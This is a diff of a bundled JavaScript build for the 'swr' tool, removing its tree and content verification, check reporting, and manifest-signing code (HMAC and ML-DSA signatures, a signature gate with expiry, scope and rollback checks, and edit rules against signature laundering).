-        // find's lines are trusted only through a digest they must equal: with no recorded metadata
-        // digest a --meta check would judge from find's file count alone, so the Node walker counts.
-        native: kind === 'stamp' || want.meta_digest !== undefined,
-        expectFiles: want.files ?? want.min_files,
-        ...(known ? { known } : {})
-    });
-    if (!r || r.unreadable.length > 0)
-        return undefined;
-    // The stamp matched through a full re-sort: remember find's raw bytes for the next warm check.
-    if (kind === 'stamp' &&
-        cachedTree &&
-        r.raw &&
-        r.digest === cachedTree.stamp &&
-        r.raw !== cachedTree.rawStamp)
-        ctx.cache.setTree(e.id, { ...cachedTree, rawStamp: r.raw });
-    const metaDigest = kind === 'meta' ? r.digest : r.digest === cachedTree?.stamp ? cachedTree.metaDigest : undefined;
-    if (metaDigest === undefined ||
-        (want.meta_digest !== undefined && metaDigest !== want.meta_digest))
-        return undefined;
-    let full;
-    const records = () => (full ??= walkTree(root, e.ignore, ctx.exclude));
-    const walk = {
-        get records() {
-            return records().records;
-        },
-        files: r.files,
-        unreadable: [],
-        metaDigest,
-        get stamp() {
-            return stampOf(records().records);
-        }
-    };
-    const found = { type: 'directory', files: r.files, meta: verifier_short(metaDigest) };
-    if (judgeStructure(e, ctx, root, walk, recorded, found))
-        return undefined;
-    if (kind === 'meta')
-        return finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
-    return judgeContent(e, ctx, root, walk, cachedTree?.contentDigest ?? '', undefined, recorded, found, true);
-}
-/** The index diff with every name (and link target) escaped for the report. */
-function tree_diffIndex(recorded, now, nowExtra) {
-    const d = diffIndex(recorded, now, nowExtra);
-    const { missing, extra, changed, counts } = d.diff;
-    return {
-        ...d,
-        diff: {
-            missing: missing.map(shownName),
-            extra: extra.map(shownName),
-            changed: changed.map(c => ({ path: shownName(c.path), what: shownName(c.what) })),
-            counts
-        }
-    };
-}
-/** Fold the per-file content differences into a structural finding. */
-function withContentDiff(early, e, ctx, walk, shas) {
-    if (!early.files)
-        return early;
-    const index = ctx.readIndex(e.id, e.expect.index);
-    if (!index)
-        return early;
-    const d = tree_diffIndex(index, walk.records, shas);
-    // Only a content or target change adds anything: mode-only differences were already named.
-    if (!d.contentChanged)
-        return early;
-    const stripped = early.status === 'STRIPPED';
-    const kept = early.detail
-        .split('; ')
-        .filter(p => p.startsWith('sentinel ') || p.includes(' files (want'));
-    return {
-        ...early,
-        status: stripped ? 'CORRUPT' : early.status,
-        reason: stripped ? 'content' : early.reason,
-        files: d.diff,
-        detail: [...kept, describeDiff(d.diff)].join('; ')
-    };
-}
-/** Everything that needs no hashing: emptiness, sentinels, unreadable parts, counts, metadata. */
-function judgeStructure(e, ctx, root, walk, recorded, found) {
-    const want = e.expect;
-    if (walk.files === 0 && (want.files ?? want.min_files) > 0) {
-        const detail = `directory holds no files (want ${num(want.files ?? want.min_files)})`;
-        return finding(e, 'EMPTY', 'empty', detail, recorded, found);
-    }
-    const problems = [];
-    const sentinels = checkSentinels(root, want.sentinels);
-    if (sentinels.length > 0)
-        problems.push(...sentinels);
-    if (walk.unreadable.length > 0) {
-        const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
-        problems.push(`unreadable: ${shown.join(', ')}`);
-    }
-    if (walk.files < want.min_files)
-        problems.push(`${num(walk.files)} files (want at least ${num(want.min_files)})`);
-    if (want.max_files !== undefined && walk.files > want.max_files) {
-        problems.push(`${num(walk.files)} files (want at most ${num(want.max_files)})`);
-    }
-    let files;
-    let execOnly = false;
-    if (want.meta_digest && walk.metaDigest !== want.meta_digest) {
-        const index = ctx.readIndex(e.id, want.index);
-        if (index) {
-            const d = tree_diffIndex(index, walk.records);
-            files = d.diff;
-            execOnly = d.execLossOnly;
-            problems.push(describeDiff(d.diff));
-        }
-        else {
-            problems.push(`metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
-        }
-    }
-    if (problems.length === 0)
-        return undefined;
-    const stripped = execOnly && problems.length === 1;
-    const reason = stripped ? 'exec' : sentinels.length > 0 ? 'sentinel' : files ? 'files' : 'count';
-    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, problems.join('; '), recorded, found);
-    return files ? { ...f, files } : f;
-}
-function checkSentinels(root, sentinels) {
-    const out = [];
-    for (const s of sentinels) {
-        const loc = locateInside(root, s);
-        if (loc.state !== 'present')
-            out.push(`sentinel missing: ${s}`);
-        else if (loc.st.isFile() && loc.st.size === 0n)
-            out.push(`sentinel empty: ${s}`);
-    }
-    return out;
-}
-function describeDiff(d) {
-    const parts = [];
-    const list = (xs, total) => xs.slice(0, 3).join(', ') + (total > 3 ? `, ... (+${num(total - 3)})` : '');
-    if (d.counts.missing > 0)
-        parts.push(`${num(d.counts.missing)} missing: ${list(d.missing, d.counts.missing)}`);
-    if (d.counts.extra > 0)
-        parts.push(`${num(d.counts.extra)} extra: ${list(d.extra, d.counts.extra)}`);
-    if (d.counts.changed > 0) {
-        const shown = d.changed.map(c => `${c.path} (${c.what})`);
-        parts.push(`${num(d.counts.changed)} changed: ${list(shown, d.counts.changed)}`);
-    }
-    return parts.join('; ') || 'entries differ';
-}
-/** Hash what the per-file cache cannot vouch for, then judge the content digest. */
-function planContentHash(e, ctx, root, walk, recorded, found, early) {
-    const pre = walk.pre;
-    if (!early && pre?.content !== undefined && pre.cacheJson !== undefined && pre.failed === 0) {
-        // The workers hashed every file and wrote the digest lines: nothing is left but judging.
-        const { content, cacheJson } = pre;
-        return {
-            jobs: [],
-            judge: () => {
-                ctx.cache.setTreeFilesJson(e.id, cacheJson);
-                ctx.cache.setTree(e.id, {
-                    stamp: walk.stamp,
-                    metaDigest: walk.metaDigest,
-                    contentDigest: content,
-                    files: walk.files
-                });
-                const shas = content === e.expect.content_digest ? undefined : walkExtras(root, walk);
-                return judgeContent(e, ctx, root, walk, content, shas, recorded, found, false);
-            }
-        };
-    }
-    const known = ctx.cache.treeFiles(e.id);
-    const shas = linkTargets(root, walk.records);
-    const jobs = [];
-    const jobIndex = [];
-    walk.records.forEach((r, i) => {
-        if (r.type !== 'f')
-            return;
-        const pre = walk.shas?.[i];
-        if (pre !== undefined) {
-            shas[i] = pre;
-            return;
-        }
-        const hit = known.get(r.rel);
-        const key = `${ident(r)} ${r.size}`;
-        if (hit && hit.startsWith(key + ' '))
-            shas[i] = hit.slice(key.length + 1);
-        else {
-            jobs.push({ abs: `${root}/${r.rel}`, how: 'full', cost: r.size });
-            jobIndex.push(i);
-        }
-    });
-    return {
-        jobs,
-        judge: (results) => {
-            const unreadable = [];
-            results.forEach((res, k) => {
-                const i = jobIndex[k] ?? 0;
-                if ('error' in res)
-                    unreadable.push(shownName(walk.records[i]?.rel ?? '?'));
-                else
-                    shas[i] = res.sha256;
-            });
-            const digest = contentDigest(walk.records, shas);
-            const files = new Map();
-            walk.records.forEach((r, i) => {
-                if (r.type === 'f' && shas[i])
-                    files.set(r.rel, cacheValue(r, shas[i]));
-            });
-            ctx.cache.setTreeFiles(e.id, files);
-            if (unreadable.length === 0) {
-                ctx.cache.setTree(e.id, {
-                    stamp: walk.stamp,
-                    metaDigest: walk.metaDigest,
-                    contentDigest: digest,
-                    files: walk.files
-                });
-            }
-            if (early)
-                return withContentDiff(early, e, ctx, walk, shas);
-            if (unreadable.length > 0) {
-                const detail = `unreadable files: ${unreadable.slice(0, 3).join(', ')}${unreadable.length > 3 ? ', ...' : ''}`;
-                return finding(e, 'CORRUPT', 'unreadable', detail, recorded, found);
-            }
-            return judgeContent(e, ctx, root, walk, digest, shas, recorded, found, jobs.length === 0);
-        }
-    };
-}
-function judgeContent(e, ctx, root, walk, digest, shas, recorded, found, cached) {
-    if (digest === e.expect.content_digest) {
-        return finding(e, 'OK', 'ok', okDetail(e, walk, true), recorded, found, cached);
-    }
-    const index = ctx.readIndex(e.id, e.expect.index);
-    let files;
-    let detail = `content digest ${verifier_short(digest)} (want ${verifier_short(e.expect.content_digest ?? '')}): same names, sizes and modes, different bytes`;
-    if (index) {
-        const extra = shas ?? contentExtras(root, walk);
-        files = tree_diffIndex(index, walk.records, extra).diff;
-        detail = describeDiff(files);
-    }
-    const f = finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, content: verifier_short(digest) }, cached);
-    return files ? { ...f, files } : f;
-}
-/** Link targets and the hashes the walk made, by record index (for a diff). */
-function walkExtras(root, walk) {
-    const extras = linkTargets(root, walk.records);
-    const shas = walk.shas ?? [];
-    walk.records.forEach((r, i) => {
-        if (r.type === 'f')
-            extras[i] = shas[i];
-    });
-    return extras;
-}
-/** Recompute per-file hashes synchronously (only on a cached mismatch, which is rare). */
-function contentExtras(root, walk) {
-    const extras = linkTargets(root, walk.records);
-    walk.records.forEach((r, i) => {
-        if (r.type !== 'f')
-            return;
-        try {
-            extras[i] = hashFile(`${root}/${r.rel}`).sha256;
-        }
-        catch {
-            extras[i] = undefined;
-        }
-    });
-    return extras;
-}
-function okDetail(e, walk, content) {
-    const what = content
-        ? 'content digest matches'
-        : e.expect.meta_digest
-            ? 'metadata digest matches'
-            : 'loose: sentinels and count only';
-    return `${num(walk.files)} files, ${e.expect.sentinels.length} sentinels, ${what}`;
-}
-
-;// CONCATENATED MODULE: ./src/core/verify/index.ts
-/**
- * Checking a manifest: each entry's verifier inspects it, all requested hashing runs through one
- * pool (largest first, across entries), then each verifier judges its results. Read-only: nothing
- * is run and nothing in the workspace is written.
- */
-
-
-
-
-
-
-function inspect(e, ctx) {
-    switch (e.kind) {
-        case 'file':
-            return verifyFile(e, ctx);
-        case 'blob':
-            return verifyBlob(e, ctx);
-        case 'tree':
-            return verifyTree(e, ctx);
-        case 'link':
-            return verifyLink(e, ctx);
-    }
-}
-/**
- * Verify `entries` in manifest order; findings come back in the same order. Files and blobs are
- * inspected first and their hashing starts at once, so it runs while the trees are walked (a
- * 500 MiB blob then hashes on one core while a cold tree walk hashes on the others, instead of
- * after it); what the tree inspections still need hashed goes through the pool afterwards.
- */
-async function verifyEntries(entries, ctx, pool = {}) {
-    const inspected = new Array(entries.length);
-    entries.forEach((e, i) => {
-        if (e.kind !== 'tree')
-            inspected[i] = inspect(e, ctx);
-    });
-    const early = inspected.filter(isPending);
-    const earlyJobs = early.flatMap(p => p.jobs);
-    // One worker per big file at most: the small ones follow on the same workers, and the cores
-    // are wanted by the tree walks meanwhile.
-    const big = earlyJobs.filter(j => j.cost >= INLINE_BYTES).length;
-    const earlyHashed = earlyJobs.length > 0
-        ? hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
-        : Promise.resolve([]);
-    // Not left unhandled while the trees are walked: it is awaited below.
-    earlyHashed.catch(() => undefined);
-    for (const [i, e] of entries.entries())
-        if (e.kind === 'tree')
-            inspected[i] = await inspect(e, ctx);
-    const late = inspected.filter(p => isPending(p) && !early.includes(p));
-    const lateJobs = late.flatMap(p => p.jobs);
-    const results = [
-        ...(await earlyHashed),
-        ...(lateJobs.length > 0 ? await hashAll(lateJobs, pool) : [])
-    ];
-    let offset = 0;
-    const judged = new Map();
-    for (const p of [...early, ...late]) {
-        judged.set(p, p.judge(results.slice(offset, offset + p.jobs.length)));
-        offset += p.jobs.length;
-    }
-    ctx.cache.flush();
-    return inspected.map(i => (isPending(i) ? judged.get(i) : i));
-}
-
-;// CONCATENATED MODULE: ./src/core/check.ts
-/**
- * `check` as an engine call: select entries, verify them through one hash pool and the incremental
- * cache, and build the report. Read-only: no recipe, smoke command or ldd runs, and nothing in the
- * workspace is written (the cache lives in the private state directory).
- */
-
-
-
-
-
-
-
-
-
-/** The entries `only` names, in manifest order; an unknown id is a usage error. */
-function selectEntries(entries, only) {
-    if (!only || only.length === 0)
-        return [...entries];
-    const known = new Set(entries.map(e => e.id));
-    const unknown = only.filter(id => !known.has(id));
-    if (unknown.length > 0)
-        throw new UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
-    const wanted = new Set(only);
-    return entries.filter(e => wanted.has(e.id));
-}
-function entryDigests(entries) {
-    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex')]));
-}
-/** The verification context for `entries` of `m`: cache, exclusions, index reader. */
-function verifyContext(m, entries, opts) {
-    return {
-        workspace: m.workspace,
-        jobs: opts.jobs,
-        deep: opts.deep === true,
-        metaOnly: opts.metaOnly === true,
-        cache: openCache({
-            stateDir: opts.stateDir,
-            manifestFile: m.file,
-            entryDigests: entryDigests(entries),
-            read: opts.cache !== false
-        }),
-        exclude: ownPaths(m.file, opts.stateDir),
-        readIndex: (id, ref) => readIndex(indexPath(m.file, id), ref)
-    };
-}
-async function checkManifest(m, opts) {
-    const started = new Date();
-    const t0 = performance.now();
-    const entries = selectEntries(m.body.entries, opts.only);
-    const known = opts.known ?? new Map();
-    const todo = entries.filter(e => !known.has(e.id));
-    const fresh = await verifyEntries(todo, verifyContext(m, todo, opts), {
-        jobs: opts.jobs,
-        onProgress: opts.onProgress
-    });
-    const byId = new Map(fresh.map(f => [f.id, f]));
-    const findings = entries.flatMap(e => {
-        const f = known.get(e.id) ?? byId.get(e.id);
-        return f ? [f] : [];
-    });
-    return buildReport({
-        command: opts.command ?? 'check',
-        version: opts.version,
-        manifest: m,
-        findings,
-        options: {
-            deep: opts.deep === true,
-            meta_only: opts.metaOnly === true,
-            cache: opts.cache !== false,
-            only: opts.only ?? []
-        },
-        started,
-        ms: performance.now() - t0,
-        ...(opts.fixCommand ? { fixCommand: opts.fixCommand } : {})
-    });
-}
-/** Verify `entries` as if the workspace were `root` (a scratch copy), uncached. */
-function scratchVerifier(m, stateDir, jobs) {
-    return (root, entries) => reverifier({ ...m, workspace: root }, stateDir, jobs)(entries);
-}
-/** Verify `entries` afresh (no cached hashes), as repair does after each step. */
-function reverifier(m, stateDir, jobs) {
-    return entries => verifyEntries(entries, verifyContext(m, entries, { stateDir, cache: false, jobs }), { jobs });
-}
-/**
- * swr's own files that may sit inside a workspace (a $HOME workspace holds the default state
- * directory; a tree at "." holds the manifest): never part of what a tree is judged by. Parent
- * directories that hold nothing but the state directory (~/.local/state made for it) go too.
- */
-function ownPaths(manifestFile, stateDir) {
-    const real = (p) => {
-        try {
-            return external_node_fs_default().realpathSync(p);
-        }
-        catch {
-            return external_node_path_default().resolve(p);
-        }
-    };
-    const dir = real(external_node_path_default().dirname(manifestFile));
-    const state = real(stateDir);
-    const out = new Set([state, external_node_path_default().join(dir, external_node_path_default().basename(manifestFile)), external_node_path_default().join(dir, 'trees')]);
-    if (external_node_path_default().basename(dir) === '.swr')
-        out.add(dir);
-    for (let child = state, parent = external_node_path_default().dirname(state); parent !== child; child = parent, parent = external_node_path_default().dirname(parent)) {
-        let names;
-        try {
-            names = external_node_fs_default().readdirSync(parent);
-        }
-        catch {
-            break;
-        }
-        if (names.length !== 1 || names[0] !== external_node_path_default().basename(child))
-            break;
-        out.add(parent);
-    }
-    return out;
 }
 
 ;// CONCATENATED MODULE: ./src/core/manifest/import-v2.ts
@@ -17676,7 +20803,7 @@ function assertUnchangedSinceRead(file) {
         now = 'absent';
     }
     if (now !== seen)
-        throw new SwrError(`${file} changed after this command read it (another writer); nothing was written: run the command again`, EXIT.CONFLICT);
+        throw new SwrError(`${file} changed after this command read it (another writer); nothing was written: run the command again`, errors_EXIT.CONFLICT);
 }
 
 // EXTERNAL MODULE: ./node_modules/ajv/dist/runtime/ucs2length.js
@@ -18338,1528 +21465,6 @@ function quarantineLine(q) {
     return `      quarantine: kept ${q.bytes} bytes in ${q.copied}${pruned}\n`;
 }
 
-;// CONCATENATED MODULE: ./src/core/index.ts
-/**
- * The swr engine, shared by the CLI and the GitHub Action:
- *
- *   load (strict parse, schema, rules, digest)
- *     -> verify (one verifier per kind; one hash pool; incremental cache)
- *     -> diagnose (wipe signature, cause and fix per entry)
- *     -> report (JSON, text)
- *
- * It prints nothing, exits nowhere and reads no environment: the shells decide all of that.
- */
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-;// CONCATENATED MODULE: ./src/version.ts
-/** The swr version; a test keeps it equal to package.json's. */
-const VERSION = '0.1.0';
-
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(4006);
-var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
-;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
-/**
- * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
- * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
- * type, and with it the manifest format and the signature-format version:
- *   "DSSEv1" SP len(type) SP type SP len(body) SP body
- */
-
-const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
-/** DSSE pre-authentication encoding of `payload` under `type`. */
-function pae(type, payload) {
-    const t = Buffer.from(type, 'utf8');
-    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
-    return Buffer.concat([head, payload]);
-}
-/** The exact bytes every manifest signature covers. */
-function envelope_signingInput(body, type = PAYLOAD_TYPE) {
-    return pae(type, canonicalBytes(body));
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
-/**
- * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
- * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
- * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
- * never from the workspace. Comparison is constant-time.
- */
-
-/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
-function hmacKeyId(key) {
-    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
-}
-function signHmac(key, input) {
-    return {
-        alg: 'hmac-sha256',
-        keyid: hmacKeyId(key),
-        sig: (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest('hex')
-    };
-}
-function verifyHmac(key, input, sig) {
-    if (!/^[0-9a-f]{64}$/.test(sig.sig))
-        return false;
-    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
-    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
-}
-/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
-function parseHmacKey(text) {
-    const t = text.trim();
-    if (/^[0-9a-fA-F]{64}$/.test(t))
-        return Buffer.from(t, 'hex');
-    if (t.length >= 32)
-        return Buffer.from(t, 'utf8');
-    return undefined;
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
-/**
- * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
- * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
- * manifest never pays for it. The public key travels with the signature; its fingerprint is always
- * recomputed from the key, never read from the document.
- */
-
-/** Domain separation: a signature made for another swr purpose never verifies as a manifest's. */
-const CONTEXT = new TextEncoder().encode('swr/manifest-signature/v1');
-const PUBLIC_KEY_BYTES = 2592;
-const SIGNATURE_BYTES = 4627;
-let loaded;
-async function mldsa() {
-    loaded ??= (await __nccwpck_require__.e(/* import() */ 925).then(__nccwpck_require__.bind(__nccwpck_require__, 4925))).ml_dsa87;
-    return loaded;
-}
-/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
-function fingerprint(publicKey) {
-    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
-}
-/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
-function groupFingerprint(fp) {
-    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
-}
-function normalizeFingerprint(text) {
-    const t = text.replace(/[\s:-]/g, '').toLowerCase();
-    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
-}
-async function identityFromSeed(seed) {
-    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
-    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
-}
-async function mldsa_signMldsa(id, input) {
-    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
-    return {
-        alg: 'ml-dsa-87',
-        keyid: id.fingerprint,
-        public_key: Buffer.from(id.publicKey).toString('base64'),
-        sig: Buffer.from(sig).toString('base64')
-    };
-}
-/** Decoded key and signature, or undefined when either is malformed (never throws). */
-function decodeMldsa(s) {
-    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
-    if (!b64.test(s.public_key) || !b64.test(s.sig))
-        return undefined;
-    const publicKey = Buffer.from(s.public_key, 'base64');
-    const sig = Buffer.from(s.sig, 'base64');
-    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
-        return undefined;
-    return { publicKey, sig };
-}
-async function verifyMldsa(publicKey, input, sig) {
-    try {
-        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXT });
-    }
-    catch {
-        return false;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/gate.ts
-/**
- * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
- * commands, exported scripts) may run. Every path that executes manifest content asks it first.
- *
- *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
- *
- * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
- * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
- * shells never pass anything but the default.
- */
-
-
-
-
-
-const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
-const ALL_DEFENSES = Object.freeze({
-    signatures: true,
-    trust: true,
-    fingerprintFromKey: true,
-    payloadType: true,
-    expiry: true,
-    scope: true,
-    rollback: true
-});
-/** What the gate reads of a loaded manifest. */
-function gateInput(m) {
-    return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
-}
-/** Each signature's state under `policy` (no decision). */
-async function evaluateSignatures(m, policy, defenses = ALL_DEFENSES) {
-    const raw = defenses.payloadType ? envelope_signingInput(m.body, PAYLOAD_TYPE) : canonicalBytes(m.body);
-    const out = [];
-    for (const s of m.signatures) {
-        if (s.alg === 'hmac-sha256') {
-            if (!policy.hmacKey)
-                out.push({ alg: s.alg, keyid: s.keyid, state: 'no-key' });
-            else {
-                const ok = !defenses.signatures || verifyHmac(policy.hmacKey, raw, s);
-                out.push({ alg: s.alg, keyid: s.keyid, state: ok ? 'valid' : 'invalid' });
-            }
-            continue;
-        }
-        const decoded = decodeMldsa(s);
-        if (!decoded) {
-            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
-            continue;
-        }
-        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
-        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
-        const trusted = !defenses.trust || policy.trusted.has(fp);
-        out.push({
-            alg: s.alg,
-            keyid: s.keyid,
-            fingerprint: fp,
-            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
-        });
-    }
-    return out;
-}
-/** May this manifest's code run? */
-async function decide(m, policy, defenses = ALL_DEFENSES) {
-    const refuse = (reason, signatures = []) => ({
-        allowed: false,
-        reason,
-        signatures,
-        warnings: []
-    });
-    const body = m.body;
-    if (defenses.expiry &&
-        body.expires !== undefined &&
-        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
-    ) {
-        return refuse(`manifest expired at ${body.expires}`);
-    }
-    if (defenses.scope) {
-        const scopeProblem = checkScope(body, policy.run);
-        if (scopeProblem)
-            return refuse(scopeProblem);
-    }
-    if (defenses.rollback) {
-        const rollback = checkRollback(body.version, m.digest, policy);
-        if (rollback)
-            return refuse(rollback);
-    }
-    if (policy.approveDigest !== undefined) {
-        if (policy.approveDigest.toLowerCase() !== m.digest) {
-            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
-        }
-        return {
-            allowed: true,
-            reason: 'signature requirement waived for this exact digest',
-            signatures: await evaluateSignatures(m, policy, defenses),
-            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
-        };
-    }
-    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
-    const states = await evaluateSignatures(m, policy, defenses);
-    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
-    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
-    const threshold = policy.threshold ?? 1;
-    const mldsaOk = signers.size >= threshold;
-    const need = describeNeed(policy.require, threshold);
-    const ok = policy.require === 'any'
-        ? hmacOk || mldsaOk
-        : policy.require === 'hmac'
-            ? hmacOk
-            : policy.require === 'mldsa'
-                ? mldsaOk
-                : hmacOk && mldsaOk;
-    if (!ok)
-        return refuse(`${summarise(states, policy)}; ${need} required`, states);
-    const by = [
-        hmacOk ? 'HMAC' : '',
-        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
-    ].filter(Boolean);
-    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
-}
-function describeNeed(r, threshold) {
-    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
-    switch (r) {
-        case 'any':
-            return `a valid HMAC or ${ml}`;
-        case 'hmac':
-            return 'a valid HMAC signature';
-        case 'mldsa':
-            return ml;
-        case 'both':
-            return `a valid HMAC and ${ml}`;
-    }
-}
-function summarise(states, policy) {
-    if (states.length === 0)
-        return 'manifest is unsigned';
-    const parts = states.map(s => {
-        const who = s.alg === 'hmac-sha256'
-            ? 'HMAC'
-            : `ML-DSA ${s.fingerprint?.slice(0, 16) ?? s.keyid.slice(0, 16)}`;
-        if (s.state === 'no-key')
-            return `${who}: no HMAC key on this run`;
-        if (s.state === 'invalid' &&
-            s.alg === 'hmac-sha256' &&
-            policy.hmacKey &&
-            s.keyid !== hmacKeyId(policy.hmacKey)) {
-            return `${who}: made with another key`;
-        }
-        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
-    });
-    return parts.join(', ');
-}
-function checkScope(body, run) {
-    const scope = body.scope;
-    if (!scope)
-        return undefined;
-    if (scope.repository !== undefined &&
-        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
-        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
-    }
-    if (scope.ref !== undefined &&
-        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
-        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
-    }
-    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
-        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
-    }
-    return undefined;
-}
-function checkRollback(version, digest, policy) {
-    if (policy.minVersion !== undefined && version < policy.minVersion) {
-        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
-    }
-    const r = policy.remembered;
-    if (r && version < r.version) {
-        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
-    }
-    if (r && version === r.version && digest !== r.digest) {
-        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
-    }
-    return undefined;
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
-/**
- * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
- * may change a signed manifest only when its signature verifies here, or when the user approved
- * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
- * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
- * accepting a signed version of it: then the missing signatures are treated as stripped.
- */
-
-
-const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
-async function authorizeEdit(m, policy, approveDigest) {
-    if (approveDigest !== undefined) {
-        if (approveDigest.toLowerCase() !== m.digest) {
-            throw new SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, EXIT.UNREPAIRABLE);
-        }
-        return { resign: true, note: `approved digest ${m.digest}` };
-    }
-    if (m.doc.signatures.length === 0) {
-        if (policy.remembered &&
-            policy.remembered.signed !== false &&
-            policy.remembered.digest !== m.digest) {
-            throw new SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
-        }
-        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
-    }
-    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
-    const input = gateInput(m);
-    const decision = await decide(input, { ...policy, require: 'any', approveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
-    if (!decision.allowed) {
-        throw new SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
-    }
-    return { resign: true };
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/sign.ts
-/**
- * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
- * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
- */
-
-
-
-
-function hasSigningKey(keys) {
-    return keys.hmacKey !== undefined || keys.identity !== undefined;
-}
-/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
-async function signDocument(doc, keys, 
-/** The highest version already accepted on this machine: signing goes above it. */
-floor = 0) {
-    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
-    const input = envelope_signingInput(body);
-    const signatures = [];
-    if (keys.hmacKey)
-        signatures.push(signHmac(keys.hmacKey, input));
-    if (keys.identity)
-        signatures.push(await mldsa_signMldsa(keys.identity, input));
-    return { doc: { ...doc, body, signatures }, digest: manifestDigest(body) };
-}
-/**
- * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
- * without changing the body or its version, so distinct signers can meet a threshold.
- */
